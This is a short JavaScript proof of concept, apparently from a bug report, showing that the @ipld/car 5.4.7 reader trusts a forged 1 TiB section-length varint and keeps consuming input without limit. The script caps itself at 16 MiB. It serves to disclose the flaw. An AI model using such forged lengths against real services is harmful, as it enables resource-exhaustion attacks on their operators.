// @ipld/car 5.4.7: trusts the lengths in a file
import { CarReader, CarWriter } from '@ipld/car'
import { CID } from 'multiformats/cid'
import * as raw from 'multiformats/codecs/raw'
import { identity } from 'multiformats/hashes/identity'

const cid = CID.createV1(raw.code, identity.digest(new Uint8Array(0)))
const { writer, out } = CarWriter.create([cid])
const header = Array.fromAsync(out)
await writer.close()
let taken = 0

async function * source () {
  yield * await header
  // a section of 1 TiB, as a varint
  yield Uint8Array.of(0x80, 0x80, 0x80, 0x80, 0x80, 0x20, ...cid.bytes)

  for (; taken < 16; taken++) {
    yield new Uint8Array(2 ** 20)
  }
}

await CarReader.fromIterable(source()).catch(() => {})

// prints 16 MiB taken, however many there are; expected: a limit
console.info(`${taken} MiB taken`)
